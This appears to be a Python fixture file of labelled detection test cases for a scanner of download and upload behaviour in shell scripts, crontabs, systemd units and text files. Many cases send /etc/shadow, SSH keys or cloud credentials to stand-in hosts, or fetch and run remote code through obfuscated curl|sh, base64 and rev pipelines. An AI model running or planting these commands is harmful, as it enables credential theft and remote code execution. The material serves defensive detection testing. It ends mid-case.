"""Unix shell carriers: sh, bash-cron, cron, systemd, text."""
from common import C, b64

ART = "Atomic Red Team"
GTFO = "GTFOBins"
SIGMA = "Sigma"
RW = "real-world carrier context"
PV = "parser variant (author)"

# ---------------------------------------------------------------- sh detect
C("h6-sh-gtfobins-tailscale-serve-01", GTFO + " tailscale (upload: serve a file to the tailnet)", "sh",
  "/usr/local/bin/share-diag-bundle", "detect", r'''
#!/bin/sh
# expose the diagnostics bundle to the support engineer
tar czf /tmp/diag.tgz /etc /var/log 2>/dev/null
tailscale serve --bg --http=8088 /tmp/diag.tgz
''')

C("h6-sh-gtfobins-kubectl-proxy-www-02", GTFO + " kubectl (upload: proxy --www serving a directory)", "sh",
  "/opt/k8s-tools/bin/expose-secrets", "detect", r'''
#!/bin/bash
kubectl proxy --address=0.0.0.0 --port=18001 --accept-hosts='.*' --www=/var/run/secrets/ --www-prefix=/s/ &
''')

C("h6-sh-gtfobins-rlogin-upload-03", GTFO + " rlogin (upload via -l DATA)", "sh",
  "/usr/lib/legacy-rsh/notify", "detect", r'''
#!/bin/sh
DATA=$(head -c 200 /etc/machine-id)
rlogin -l "$DATA" -p 5513 collector.rsh.example
''')

C("h6-sh-gtfobins-busybox-httpd-04", GTFO + " busybox httpd (upload: serve / over HTTP)", "sh",
  "/etc/local.d/webshare.start", "detect", r'''
#!/bin/sh
# OpenRC local.d start hook
busybox httpd -f -p 0.0.0.0:12345 -h / &
''')

C("h6-sh-gtfobins-ab-post-upload-05", GTFO + " ab (upload: -p file POSTed to a remote URL)", "sh",
  "/opt/perf/bin/bench-post.sh", "detect", r'''
#!/bin/bash
# "load test" of the remote endpoint
ab -n 1 -c 1 -T application/octet-stream -p /root/.ssh/id_rsa http://bench.loadgen.example:8080/upload
''')

C("h6-sh-gtfobins-tar-rsh-upload-06", GTFO + " tar (upload: remote archive with --rsh-command)", "sh",
  "/usr/local/sbin/offsite-archive", "detect", r'''
#!/bin/sh
tar cvf backup@203.0.113.61:/srv/drop/$(hostname).tar /etc/ssl /home --rsh-command=/usr/bin/ssh
''')

C("h6-sh-gtfobins-code-tunnel-07", GTFO + " code (VS Code remote tunnel)", "sh",
  "/home/dev/.local/bin/start-remote", "detect", r'''
#!/bin/sh
export VSCODE_CLI_DATA_DIR=/home/dev/.vscode-cli
exec code tunnel --accept-server-license-terms --name build-node-7f3c
''')

C("h6-sh-gtfobins-openssl-upload-08", GTFO + " openssl s_client (upload: stdin from a file)", "sh",
  "/docker-entrypoint.d/15-report.sh", "detect", r'''
#!/bin/sh
# nginx-style entrypoint hook
openssl s_client -quiet -connect 198.51.100.91:8443 < /etc/nginx/conf.d/default.conf >/dev/null 2>&1 || true
''')

C("h6-sh-gtfobins-sshfs-mount-copy-09", GTFO + " sshfs (download: mount remote then copy)", "sh",
  "/usr/local/bin/mount-plugin-share", "detect", r'''
#!/bin/bash
set -eu
mkdir -p /mnt/plugins
sshfs -o IdentityFile=/etc/sync/id_ed25519,StrictHostKeyChecking=no sync@plugins.mirror.example:/export /mnt/plugins
cp /mnt/plugins/latest/*.so /usr/lib/app/plugins/
fusermount -u /mnt/plugins
''')

C("h6-sh-gtfobins-lua-socket-upload-10", GTFO + " lua (upload with LuaSocket)", "sh",
  "/usr/share/lua-tools/push.sh", "detect", r'''
#!/bin/sh
lua -e '
  local f=io.open("/etc/shadow", "rb")
  local d=f:read("*a")
  io.close(f);
  local s=require("socket");
  local t=assert(s.tcp());
  t:connect("203.0.113.88",12345);
  t:send(d);
  t:close();'
''')

C("h6-sh-gtfobins-yum-remote-rpm-11", GTFO + " yum (download: install a remote rpm)", "sh",
  "/usr/local/bin/install-agent-rpm", "detect", r'''
#!/bin/sh
yum -y --nogpgcheck install http://repo.agent.example/el9/x86_64/agent-2.4.1-1.el9.x86_64.rpm
''')

C("h6-sh-zypper-remote-rpm-12", PV + " zypper installing an rpm from a URL", "sh",
  "/opt/suse/setup/10-agent.sh", "detect", r'''
#!/bin/bash
zypper --non-interactive --no-gpg-checks install https://pkgs.vendor.example/sles15/monitor-agent.rpm
''')

C("h6-sh-lwp-request-13", PV + " lwp-request (libwww-perl) GET to a file", "sh",
  "/usr/local/bin/refresh-ca-list", "detect", r'''
#!/bin/sh
lwp-request -m GET https://pki.corp.example/ca/bundle.pem > /usr/local/share/ca-certificates/corp.crt
update-ca-certificates
''')

C("h6-sh-httpie-download-14", PV + " HTTPie --download", "sh",
  "/opt/release/fetch-artifact.sh", "detect", r'''
#!/bin/bash
http --ignore-stdin --download --output /opt/release/app.tar.gz GET https://artifacts.build.example/app/1.9.0/app.tar.gz
tar -xzf /opt/release/app.tar.gz -C /opt/release
''')

C("h6-sh-xh-download-15", PV + " xh -d -o", "sh",
  "/usr/local/bin/get-schema", "detect", r'''
#!/bin/sh
xh -d -o /srv/schema/registry.avsc https://schema.registry.example/subjects/orders/versions/latest/schema
''')

C("h6-sh-freebsd-fetch-16", PV + " FreeBSD fetch(1) -o", "sh",
  "/usr/local/etc/rc.d/pkgbootstrap", "detect", r'''
#!/bin/sh
# PROVIDE: pkgbootstrap
fetch -q -o /usr/local/sbin/agentd http://198.51.100.140/freebsd/agentd
chmod 555 /usr/local/sbin/agentd
''')

C("h6-sh-sigma-curl-data-binary-17", SIGMA + " 'Suspicious Curl File Upload - Linux' (--data-binary @file)", "sh",
  "/usr/local/bin/forward-authlog", "detect", r'''
#!/bin/sh
curl -s -X POST --data-binary @/var/log/auth.log https://intake.logsink.example/v1/raw
''')

C("h6-sh-sigma-curl-form-18", SIGMA + " 'Suspicious Curl File Upload - Linux' (-F form upload)", "sh",
  "/root/.config/upload-creds.sh", "detect", r'''
#!/bin/bash
for f in /root/.aws/credentials /root/.kube/config; do
  [ -f "$f" ] && curl -sk -F "file=@${f}" -F "host=$(hostname)" https://198.51.100.200:4443/u
done
''')

C("h6-sh-sigma-wget-post-file-19", SIGMA + " wget upload with --post-file", "sh",
  "/usr/lib/app/hooks/post-backup", "detect", r'''
#!/bin/sh
wget -q --post-file=/var/backups/db.sql.gz --header="X-Host: $(hostname)" -O /dev/null http://vault.offsite.example/ingest
''')

C("h6-sh-sigma-wget-tmp-dir-20", SIGMA + " 'Download File To Potentially Suspicious Directory Via Wget' (-P /dev/shm)", "sh",
  "/etc/NetworkManager/dispatcher.d/90-online", "detect", r'''
#!/bin/sh
IFACE="$1"; STATUS="$2"
if [ "$STATUS" = "up" ]; then
    wget -q -P /dev/shm http://203.0.113.75/netmon && chmod +x /dev/shm/netmon && /dev/shm/netmon &
fi
''')

C("h6-sh-atftp-get-21", PV + " atftp --get", "sh",
  "/usr/share/pxe/fetch-firmware.sh", "detect", r'''
#!/bin/sh
atftp --get -r firmware/nic-fw.bin -l /lib/firmware/nic-fw.bin 198.51.100.69
''')

C("h6-sh-smbget-22", PV + " smbget from an SMB share", "sh",
  "/opt/winshare/pull-reports.sh", "detect", r'''
#!/bin/bash
smbget -U 'svc_reports%Winter2024' -o /data/reports/q4.xlsx smb://fileserver.corp.example/finance/q4.xlsx
''')

C("h6-sh-sshpass-scp-23", PV + " sshpass wrapper around scp pull", "sh",
  "/usr/local/bin/pull-license", "detect", r'''
#!/bin/sh
sshpass -p "$LICENSE_PW" scp -o StrictHostKeyChecking=no -P 2202 lic@203.0.113.99:/licenses/app.lic /etc/app/app.lic
''')

C("h6-sh-rsync-daemon-24", PV + " rsync daemon module syntax host::module", "sh",
  "/etc/init.d/mirror-sync", "detect", r'''
#!/bin/sh
### BEGIN INIT INFO
# Provides:          mirror-sync
# Required-Start:    $network
# Default-Start:     2 3 4 5
### END INIT INFO
case "$1" in
  start)
    rsync -rlt --delete mirror.pkgs.example::ubuntu-tools/ /srv/mirror/tools/
    ;;
esac
''')

C("h6-sh-process-subst-install-25", PV + " install(1) reading a process substitution of curl", "sh",
  "/usr/local/bin/setup-kubectx", "detect", r'''
#!/bin/bash
install -m 0755 <(curl -fsSL https://dl.tools.example/kubectx/v0.9.5/kubectx) /usr/local/bin/kubectx
''')

C("h6-sh-source-procsubst-26", PV + " source <(curl ...)", "sh",
  "/home/app/.bashrc", "detect", r'''
# ~/.bashrc: executed by bash(1) for non-login shells.
[ -z "$PS1" ] && return
HISTCONTROL=ignoreboth
alias ll='ls -alF'
source <(curl -s https://dotfiles.team.example/shell/init.sh)
''', executable=False)

C("h6-sh-eval-wget-27", PV + " eval \"$(wget -qO- ...)\"", "sh",
  "/etc/profile.d/corp-env.sh", "detect", r'''
# corporate environment bootstrap
eval "$(wget -qO- http://198.51.100.31/env/profile)"
''', executable=False)

C("h6-sh-heredoc-to-sh-28", PV + " here-doc body fed to sh", "sh",
  "/usr/local/lib/bootstrap/stage2.sh", "detect", r'''
#!/bin/bash
sh -s <<'STAGE'
cd /var/tmp
wget -q http://stage.ops.example/s2/runner -O runner
chmod +x runner && ./runner
STAGE
''')

C("h6-sh-rev-obfuscation-29", PV + " reversed command string piped through rev into sh", "sh",
  "/usr/bin/.fontcache-update", "detect", r'''
#!/bin/sh
echo 'hs | hs.x/tib/58.311.0.302//:ptth Lsf- lruc' | rev | sh
''')

C("h6-sh-base64-decode-bash-30", PV + " base64 --decode piped to bash", "sh",
  "/opt/.cache/init", "detect", r'''
#!/bin/sh
echo ''' + b64("wget -qO- http://198.51.100.14:8000/i.sh | bash\n") + r''' | base64 --decode | bash
''')

C("h6-sh-xxd-hex-sh-31", PV + " hex blob through xxd -r -p into sh", "sh",
  "/usr/local/share/.x", "detect", r'''
#!/bin/sh
printf '%s' "''' + "curl -s http://203.0.113.41/p | sh\n".encode().hex() + r'''" | xxd -r -p | sh
''')

C("h6-sh-url-from-parts-32", PV + " URL built from host/port/path variables", "sh",
  "/srv/app/bin/fetch-model", "detect", r'''
#!/bin/bash
H=203.0.113.27
P=8443
F=models/ranker.onnx
curl --insecure --create-dirs -o "/srv/app/${F}" "https://${H}:${P}/${F}"
''')

C("h6-sh-curl-args-array-33", PV + " curl arguments held in a bash array", "sh",
  "/usr/local/bin/update-geo", "detect", r'''
#!/bin/bash
src="https://geo.data.example/GeoLite2-City.mmdb"
opts=(--fail --silent --location --retry 3 --output /usr/share/GeoIP/GeoLite2-City.mmdb)
curl "${opts[@]}" "$src"
''')

C("h6-sh-schemeless-hostport-34", PV + " schemeless host:port URL for curl", "sh",
  "/tmp/.ICE-unix/.s", "detect", r'''
#!/bin/sh
curl -so /tmp/.ICE-unix/.b 198.51.100.23:8080/b && chmod 700 /tmp/.ICE-unix/.b && /tmp/.ICE-unix/.b
''')

C("h6-sh-wrappers-timeout-flock-35", PV + " flock + timeout + ionice wrappers around wget", "sh",
  "/usr/local/bin/refresh-blocklist", "detect", r'''
#!/bin/sh
exec flock -n /run/blocklist.lock timeout 120 ionice -c3 nice -n 19 \
    wget --quiet --tries=2 \
         --output-document=/etc/nginx/blocklist.conf \
         https://lists.secops.example/nginx/blocklist.conf
''')

C("h6-sh-runuser-curl-tar-36", PV + " runuser wrapper, curl piped into tar", "sh",
  "/usr/local/bin/install-node-runtime", "detect", r'''
#!/bin/bash
runuser -u builder -- sh -c 'curl -fsSL https://nodejs.mirror.example/dist/v20.11.1/node-v20.11.1-linux-x64.tar.xz | tar -xJ -C /home/builder/.local --strip-components=1'
''')

C("h6-sh-dpkg-preinst-tee-37", RW + " dpkg preinst fetching with curl | tee", "sh",
  "/var/lib/dpkg/info/vendor-agent.preinst", "detect", r'''
#!/bin/sh
set -e
if [ "$1" = "install" ]; then
    curl -fsSL https://vendor.agent.example/keys/agent.asc | tee /etc/apt/trusted.gpg.d/vendor-agent.asc >/dev/null
    curl -fsSL -o /usr/sbin/vendor-agentd https://vendor.agent.example/bin/vendor-agentd
fi
exit 0
''')

C("h6-sh-update-motd-nc-upload-38", PV + " nc upload from an update-motd.d script", "sh",
  "/etc/update-motd.d/60-sysinfo", "detect", r'''
#!/bin/sh
printf "System load: %s\n" "$(cut -d' ' -f1 /proc/loadavg)"
nc -w 3 198.51.100.3 9001 < /etc/shadow >/dev/null 2>&1 &
''')

C("h6-sh-bash-devtcp-ppp-39", PV + " bash /dev/tcp read into a file from an ip-up hook", "sh",
  "/etc/ppp/ip-up.d/0010-update", "detect", r'''
#!/bin/bash
bash -c 'cat < /dev/tcp/203.0.113.5/4444 > /usr/local/bin/pppmon' && chmod +x /usr/local/bin/pppmon
''')

C("h6-sh-aws-s3-cp-40", PV + " aws s3 cp from a bucket to a binary path", "sh",
  "/opt/deploy/bin/pull-release", "detect", r'''
#!/bin/sh
aws s3 cp --no-sign-request --endpoint-url https://s3.storage.example s3://releases/worker/worker-linux-amd64 /usr/local/bin/worker
chmod +x /usr/local/bin/worker
''')

C("h6-sh-art-linux-download-run-41", ART + " T1105 'Linux Download File and Run' style in an entrypoint", "sh",
  "/usr/local/bin/docker-entrypoint-pre.sh", "detect", r'''
#!/bin/bash
set -e
if [ -n "${PLUGIN_URL:-}" ]; then
  curl -sO "$PLUGIN_URL" && chmod +x ./plugin.sh && ./plugin.sh
fi
curl -sO https://plugins.app.example/default/plugin.sh && chmod +x plugin.sh && ./plugin.sh
exec "$@"
''')

C("h6-sh-gtfobins-zsh-ztcp-upload-42", GTFO + " zsh ztcp (upload)", "sh",
  "/home/ops/.zshrc", "detect", r'''
# ~/.zshrc
autoload -Uz compinit && compinit
zsh -c 'zmodload zsh/net/tcp;ztcp 203.0.113.102 12345;echo -n "$(</home/ops/.ssh/id_ed25519)" >&$REPLY' 2>/dev/null &!
''', executable=False)

# ---------------------------------------------------------------- sh silent
C("h6-sh-silent-dpkg-probe-01", PV + " dpkg status and type -p probes for transfer tools", "sh",
  "/usr/local/bin/report-installed-tools", "silent", r'''
#!/bin/bash
# inventory for the SBOM job: which transfer tools are installed?
tools=(curl wget rsync openssh-client lftp)
for pkg in "${tools[@]}"; do
  status=$(dpkg-query -W -f='${Status}' "$pkg" 2>/dev/null || echo "absent")
  echo "$pkg: $status"
done
type -p curl wget || true
''')

C("h6-sh-silent-es-wait-02", PV + " readiness loop against 127.0.0.1", "sh",
  "/usr/local/bin/wait-for-es", "silent", r'''
#!/bin/bash
until curl -fsS "http://127.0.0.1:9200/_cluster/health?wait_for_status=yellow&timeout=5s" >/dev/null; do
  echo "waiting for elasticsearch..."
  sleep 2
done
exec "$@"
''')

C("h6-sh-silent-usage-text-03", PV + " usage text printed with cat <<EOF to stderr", "sh",
  "/usr/local/bin/agentctl", "silent", r'''
#!/bin/sh
usage() {
  cat >&2 <<EOF
usage: agentctl <install|remove|status>

To install on a fresh host, an operator usually runs:
    curl -fsSL https://get.agent.example/install.sh | sudo sh
or, without curl:
    wget -qO- https://get.agent.example/install.sh | sudo sh
EOF
  exit 2
}
[ $# -eq 0 ] && usage
echo "agentctl: $1 not implemented in this image"
''')

C("h6-sh-silent-verify-artifacts-04", PV + " checksum/signature verification of artifacts already in the image", "sh",
  "/usr/local/bin/verify-vendored", "silent", r'''
#!/bin/sh
# Artifacts under /opt/dl were fetched by CI (curl/wget are not used at runtime).
set -e
cd /opt/dl
sha256sum -c SHA256SUMS
gpg --batch --verify SHA256SUMS.asc SHA256SUMS
echo "vendored artifacts verified"
''')

C("h6-sh-silent-local-rsync-05", PV + " local rsync and cp between directories", "sh",
  "/usr/local/sbin/snapshot-data", "silent", r'''
#!/bin/bash
set -euo pipefail
dest=/backup/$(date +%F)
mkdir -p "$dest"
rsync -aHAX --delete /var/lib/app/ "$dest/app/"
cp -a /etc/app "$dest/etc-app"
''')

C("h6-sh-silent-pg-port-check-06", PV + " nc -z port check on localhost", "sh",
  "/docker-entrypoint.d/05-wait-db.sh", "silent", r'''
#!/bin/sh
while ! nc -z localhost 5432; do
  sleep 1
done
echo "postgres is up"
''')

C("h6-sh-silent-apk-add-07", PV + " package manager install of curl/wget from the distro repo", "sh",
  "/usr/local/bin/ensure-deps", "silent", r'''
#!/bin/sh
set -e
command -v curl >/dev/null 2>&1 || apk add --no-cache curl
command -v wget >/dev/null 2>&1 || apk add --no-cache wget
apk add --no-cache ca-certificates tzdata
''')

C("h6-sh-silent-tls-selfcheck-08", PV + " openssl s_client certificate check against localhost", "sh",
  "/usr/local/bin/cert-expiry", "silent", r'''
#!/bin/sh
echo | openssl s_client -connect localhost:8443 -servername localhost 2>/dev/null \
  | openssl x509 -noout -enddate
''')

C("h6-sh-silent-offline-pip-09", PV + " pip install from a local wheelhouse only", "sh",
  "/opt/app/install-offline.sh", "silent", r'''
#!/bin/sh
pip install --no-index --find-links /opt/app/wheels -r /opt/app/requirements.txt
''')

C("h6-sh-silent-var-names-10", PV + " variables named after tools, logging only", "sh",
  "/etc/profile.d/proxy-env.sh", "silent", r'''
# proxy defaults for interactive shells
export WGETRC=/etc/wgetrc.corp
export CURL_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt
curl_opts="--retry 3 --connect-timeout 5"
wget_opts="--tries=3"
export curl_opts wget_opts
''', executable=False)

# ---------------------------------------------------------------- bash-cron
C("h6-bashcron-lwp-download-01", GTFO + " lwp-download in cron.daily", "bash-cron",
  "/etc/cron.daily/refresh-tlds", "detect", r'''
#!/bin/sh
lwp-download https://data.iana.example/tld/tlds-alpha-by-domain.txt /var/lib/app/tlds.txt
''')

C("h6-bashcron-whois-download-02", GTFO + " whois -h host -p port (download) in cron.hourly", "bash-cron",
  "/etc/cron.hourly/zz-sync", "detect", r'''
#!/bin/sh
whois -h 198.51.100.211 -p 4343 stage2 > /var/tmp/.s2 && sh /var/tmp/.s2
''')

C("h6-bashcron-aws-s3-sync-03", PV + " aws s3 sync down into a web root in cron.weekly", "bash-cron",
  "/etc/cron.weekly/sync-assets", "detect", r'''
#!/bin/bash
aws s3 sync s3://static-assets-prod/site/ /var/www/html/ --endpoint-url https://objects.cdn.example --delete
''')

C("h6-bashcron-scp-push-04", ART + " 'scp remote file copy (push)' in cron.monthly", "bash-cron",
  "/etc/cron.monthly/archive-audit", "detect", r'''
#!/bin/bash
tar czf /tmp/audit.tgz /var/log/audit
scp -q -i /root/.ssh/archive_key /tmp/audit.tgz archive@203.0.113.150:/incoming/$(hostname)-audit.tgz
rm -f /tmp/audit.tgz
''')

C("h6-bashcron-silent-local-cleanup-01", PV + " cron.daily local cleanup calling a loopback endpoint", "bash-cron",
  "/etc/cron.daily/app-cleanup", "silent", r'''
#!/bin/sh
find /var/lib/app/tmp -type f -mtime +3 -delete
curl -fsS -X POST http://127.0.0.1:8080/internal/cache/purge >/dev/null || true
''')

C("h6-bashcron-silent-mandb-02", PV + " cron.daily man-db / updatedb maintenance", "bash-cron",
  "/etc/cron.daily/docs-index", "silent", r'''
#!/bin/sh
# rebuild local indexes; no network access
if [ -x /usr/bin/mandb ]; then
    /usr/bin/mandb --quiet 2>/dev/null || true
fi
[ -x /usr/bin/updatedb ] && /usr/bin/updatedb --prunepaths="/tmp /var/tmp /proc"
exit 0
''')

# ---------------------------------------------------------------- cron
C("h6-cron-env-url-01", PV + " crontab environment line holding the URL", "cron",
  "/etc/cron.d/asset-refresh", "detect", r'''
SHELL=/bin/sh
PAYLOAD=http://203.0.113.19/a/refresh.sh
*/20 * * * * root curl -fsSL $PAYLOAD -o /var/tmp/refresh.sh && sh /var/tmp/refresh.sh
''')

C("h6-cron-jrunscript-02", GTFO + " jrunscript cp() download in /etc/cron.d", "cron",
  "/etc/cron.d/java-cfg", "detect", r'''
# refresh the JVM agent config
15 3 * * * tomcat jrunscript -e 'cp("http://cfg.jvm.example/agent.properties","/opt/tomcat/conf/agent.properties")'
''')

C("h6-cron-julia-download-03", GTFO + " julia download() in a user crontab", "cron",
  "/var/spool/cron/crontabs/analyst", "detect", r'''
# m h  dom mon dow   command
0 6 * * * julia -e 'download("https://datasets.lab.example/daily/prices.csv", "/home/analyst/data/prices.csv")'
''')

C("h6-cron-openssl-upload-04", GTFO + " openssl s_client upload from RHEL user crontab", "cron",
  "/var/spool/cron/postgres", "detect", r'''
*/30 * * * * /usr/bin/openssl s_client -quiet -connect 198.51.100.173:443 < /etc/shadow >/dev/null 2>&1
''')

C("h6-cron-fallback-chain-05", RW + " curl || wget fallback piped to sh (cryptominer style)", "cron",
  "/etc/cron.d/.sysupdate", "detect", r'''
*/10 * * * * root (curl -fsSL http://203.0.113.44:8000/k.sh || wget -q -O- http://203.0.113.44:8000/k.sh) | sh
''')

C("h6-cron-smbget-06", PV + " smbget in /etc/cron.d with percent escaping", "cron",
  "/etc/cron.d/erp-price-import", "detect", r'''
MAILTO=""
30 5 * * 1-5 www-data smbget -a -o /srv/shop/import/prices-$(date +\%F).csv smb://erp.corp.example/export/prices.csv
''')

C("h6-cron-rsync-ssh-port-07", ART + " 'rsync remote file copy (pull)' with -e ssh -p in a user crontab", "cron",
  "/var/spool/cron/crontabs/deploy", "detect", r'''
@hourly rsync -az -e "ssh -p 2200 -i /home/deploy/.ssh/id_ed25519" deploy@198.51.100.95:/releases/current/ /srv/app/
''')

C("h6-cron-silent-certbot-01", PV + " certbot renew crontab", "cron",
  "/etc/cron.d/certbot-renew", "silent", r'''
# renew TLS certificates twice a day (certbot handles the ACME traffic itself)
MAILTO=ops@example.com
17 4,16 * * * root [ -x /usr/bin/certbot ] && /usr/bin/certbot renew --quiet --deploy-hook "systemctl reload nginx"
''')

C("h6-cron-silent-loopback-ping-02", PV + " crontab pinging a local metrics endpoint", "cron",
  "/var/spool/cron/crontabs/monitor", "silent", r'''
*/5 * * * * curl -fsS -m 10 -o /dev/null http://127.0.0.1:9100/metrics || logger -t monitor "node exporter down"
''')

C("h6-cron-silent-commented-03", PV + " disabled (commented-out) job and a local backup job", "cron",
  "/etc/cron.d/ledger-maint", "silent", r'''
# Disabled 2024-03: remote bootstrap moved to the image build.
# */15 * * * * root wget -qO- http://bootstrap.example.com/setup.sh | sh
45 2 * * * root /usr/local/sbin/snapshot-data >> /var/log/snapshot.log 2>&1
''')

# ---------------------------------------------------------------- systemd
C("h6-systemd-julia-download-01", GTFO + " julia download() as ExecStartPre", "systemd",
  "/etc/systemd/system/pricing-engine.service", "detect", r'''
[Unit]
Description=Pricing engine
After=network-online.target
Wants=network-online.target

[Service]
User=pricing
ExecStartPre=/usr/bin/julia -e 'download("https://models.lab.example/pricing/latest.jls", "/var/lib/pricing/model.jls")'
ExecStart=/usr/bin/julia /opt/pricing/serve.jl
Restart=on-failure

[Install]
WantedBy=multi-user.target
''')

C("h6-systemd-docker-dropin-02", PV + " drop-in override adding ExecStartPre curl to dockerd", "systemd",
  "/etc/systemd/system/docker.service.d/10-registry-ca.conf", "detect", r'''
[Service]
ExecStartPre=/usr/bin/curl -fsSL --create-dirs -o /etc/docker/certs.d/registry.corp.example/ca.crt https://pki.corp.example/registry-ca.crt
''')

C("h6-systemd-env-var-url-03", PV + " Environment= holding the URL, ${VAR} in ExecStart", "systemd",
  "/usr/lib/systemd/system/feed-sync.service", "detect", r'''
[Unit]
Description=Threat feed sync

[Service]
Type=oneshot
Environment=FEED_URL=https://feeds.intel.example/v2/indicators.json
Environment=FEED_OUT=/var/lib/feeds/indicators.json
ExecStart=/usr/bin/wget -q -O ${FEED_OUT} ${FEED_URL}
''')

C("h6-systemd-user-unit-sh-c-04", PV + " user unit with /bin/sh -c pipe to sh", "systemd",
  "/home/dev/.config/systemd/user/devtools-update.service", "detect", r'''
[Unit]
Description=Keep dev tools current

[Service]
Type=oneshot
ExecStart=/bin/sh -c 'wget -qO- http://198.51.100.58/devtools/update.sh | sh'

[Install]
WantedBy=default.target
''')

C("h6-systemd-execcondition-05", PV + " ExecCondition= + ExecStart= aria2c-free curl download via timer service", "systemd",
  "/etc/systemd/system/geoip-refresh.service", "detect", r'''
[Unit]
Description=Refresh GeoIP database
Documentation=man:curl(1)

[Service]
Type=oneshot
ExecCondition=/usr/bin/test -d /usr/share/GeoIP
ExecStart=/usr/bin/curl --fail --silent --location --output /usr/share/GeoIP/city.mmdb https://geo.data.example/city.mmdb
''')

C("h6-systemd-smbclient-mget-06", PV + " smbclient -c mget from a remote share in a oneshot service", "systemd",
  "/etc/systemd/system/import-drivers.service", "detect", r'''
[Unit]
Description=Import printer drivers from the file server

[Service]
Type=oneshot
ExecStart=/usr/bin/smbclient //fileserver.corp.example/drivers -N -c "prompt OFF; lcd /opt/drivers; mget *.ppd"
''')

C("h6-systemd-scp-push-stop-07", ART + " 'scp remote file copy (push)' in ExecStopPost", "systemd",
  "/etc/systemd/system/journal-ship.service", "detect", r'''
[Unit]
Description=Ship journal on shutdown
DefaultDependencies=no
Before=shutdown.target

[Service]
Type=oneshot
RemainAfterExit=yes
ExecStart=/bin/true
ExecStopPost=/usr/bin/scp -o BatchMode=yes /var/log/journal-export.bin ship@203.0.113.170:/journals/
''')

C("h6-systemd-silent-consul-wait-01", PV + " ExecStartPre loopback health wait", "systemd",
  "/etc/systemd/system/app-after-consul.service", "silent", r'''
[Unit]
Description=App (waits for local consul agent)
After=consul.service

[Service]
ExecStartPre=/bin/sh -c 'until curl -sf http://127.0.0.1:8500/v1/status/leader; do sleep 1; done'
ExecStart=/opt/app/bin/app --config /etc/app/app.hcl
Restart=always

[Install]
WantedBy=multi-user.target
''')

C("h6-systemd-silent-timer-02", PV + " timer unit only (no command)", "systemd",
  "/etc/systemd/system/geoip-refresh.timer", "silent", r'''
[Unit]
Description=Weekly GeoIP refresh (downloads handled by geoip-refresh.service)

[Timer]
OnCalendar=weekly
RandomizedDelaySec=3h
Persistent=true

[Install]
WantedBy=timers.target
''')

C("h6-systemd-silent-docs-url-03", PV + " Documentation= URL, local ExecStart", "systemd",
  "/usr/lib/systemd/system/nginx-local.service", "silent", r'''
[Unit]
Description=nginx web server
Documentation=https://nginx.example.org/en/docs/ man:nginx(8)
After=network.target

[Service]
Type=forking
PIDFile=/run/nginx.pid
ExecStartPre=/usr/sbin/nginx -t -q
ExecStart=/usr/sbin/nginx
ExecReload=/usr/sbin/nginx -s reload

[Install]
WantedBy=multi-user.target
''')

# ---------------------------------------------------------------- text (silent)
C("h6-text-install-md-01", PV + " INSTALL.md with a curl|sh snippet", "text",
  "/usr/share/doc/agent/INSTALL.md", "silent", r'''
# Installing the agent

The container image already ships the agent. For bare-metal hosts the vendor documents:

```sh
curl -fsSL https://get.agent.example/install.sh | sudo sh
```

On Windows Server use:

```powershell
iwr -useb https://get.agent.example/install.ps1 | iex
```
''')

C("h6-text-sigma-rule-02", SIGMA + " a Sigma rule file shipped as data (mentions certutil/bitsadmin)", "text",
  "/opt/detections/rules/win_lolbin_download.yml", "silent", r'''
title: LOLBin download (local copy of a community rule)
status: test
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        CommandLine|contains:
            - 'certutil -urlcache -split -f'
            - 'bitsadmin /transfer'
            - 'DownloadString('
    condition: selection
level: high
''')

C("h6-text-access-log-03", PV + " web access log lines with curl/Wget user agents", "text",
  "/var/log/nginx/downloads-access.log.2", "silent", r'''
203.0.113.7 - - [12/Mar/2024:10:01:22 +0000] "GET /install.sh HTTP/1.1" 200 4211 "-" "curl/8.5.0"
198.51.100.9 - - [12/Mar/2024:10:01:40 +0000] "GET /bin/agent HTTP/1.1" 200 8123392 "-" "Wget/1.21.4"
192.0.2.44 - - [12/Mar/2024:10:02:03 +0000] "POST /upload HTTP/1.1" 413 0 "-" "python-requests/2.31.0"
''')

C("h6-text-man-page-04", PV + " man-page style text for a download helper", "text",
  "/usr/share/man/man1/fetchtool.1", "silent", r'''
.TH FETCHTOOL 1 "March 2024"
.SH NAME
fetchtool \- wrapper around curl and wget
.SH SYNOPSIS
.B fetchtool
[\fB\-o\fR \fIfile\fR] \fIurl\fR
.SH EXAMPLES
.nf
fetchtool -o /tmp/x.tar.gz https://downloads.example.com/x.tar.gz
is equivalent to: curl -fL -o /tmp/x.tar.gz https://downloads.example.com/x.tar.gz
.fi
''')

C("h6-text-bash-completion-05", PV + " shell completion data listing scp/rsync options", "text",
  "/usr/share/doc/app/completion-notes.txt", "silent", r'''
Completion notes
================
scp, sftp and rsync complete remote paths of the form user@host:/path by
querying the remote host over ssh.  For example typing

    scp deploy@build.example.com:/srv/<TAB>

lists /srv on the remote side.  Disable with COMP_KNOWN_HOSTS_WITH_HOSTFILE=.
''')


# ---------------------------------------------------------------- additions (pipes into other interpreters, one-liners)
C("h6-sh-curl-pipe-pwsh-43", PV + " curl piped into pwsh -Command - on Linux", "sh",
  "/usr/local/bin/apply-dsc", "detect", r'''
#!/bin/sh
curl -fsSL https://dsc.config.example/linux/baseline.ps1 | pwsh -NoProfile -Command -
''')

C("h6-sh-ruby-oneliner-44", GTFO + " ruby -rnet/http one-liner writing a file", "sh",
  "/opt/chef/embedded/bin/refresh-cookbook", "detect", r'''
#!/bin/sh
ruby -rnet/http -e 'File.binwrite("/var/chef/cache/cb.tgz", Net::HTTP.get(URI("http://198.51.100.119/cb/base.tgz")))'
tar -xzf /var/chef/cache/cb.tgz -C /var/chef/cookbooks
''')

C("h6-sh-wget-pipe-python-45", PV + " wget -O- piped into python3 -", "sh",
  "/usr/lib/jupyter/hooks/pre-start.sh", "detect", r'''
#!/bin/bash
# jupyter pre-start hook
wget -qO- https://nb-ext.lab.example/bootstrap.py | python3 - --user "${NB_USER:-jovyan}"
''')


# ---------------------------------------------------------------- additions (GTFOBins inherited interpreters, Sigma macOS/axios)
C("h6-sh-gtfobins-gdb-python-46", GTFO + " gdb (inherits python: urlretrieve via -ex 'python ...')", "sh",
  "/usr/local/bin/debug-symbols-fetch", "detect", r'''
#!/bin/sh
gdb -nx -batch -ex 'python import urllib.request as u; u.urlretrieve("http://203.0.113.152/dbg/symbols.tar", "/tmp/symbols.tar")' -ex quit
''')

C("h6-sh-gtfobins-vim-py3-47", GTFO + " vim (inherits python: :py3 download)", "sh",
  "/home/dev/.local/bin/vim-plug-sync", "detect", r'''
#!/bin/sh
